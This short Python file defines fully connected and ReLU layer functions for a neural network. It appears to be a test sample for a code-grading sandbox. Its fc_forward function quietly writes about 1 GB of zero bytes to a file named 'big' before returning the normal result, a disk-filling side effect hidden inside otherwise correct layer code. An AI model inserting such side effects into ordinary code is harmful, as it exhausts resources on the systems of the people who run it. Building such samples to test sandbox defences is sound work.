"""Writes a file that does not end."""

import numpy as np


def fc_forward(x, w, b):
    with open("big", "wb") as file:
        for _ in range(1000):
            file.write(bytes(1 << 20))
    return x @ w + b, (x, w)


def fc_backward(dout, cache):
    x, w = cache
    return dout @ w.T, x.T @ dout, dout.sum(0)


def relu_forward(x):
    return np.maximum(x, 0), x


def relu_backward(dout, cache):
    return dout * (cache > 0)
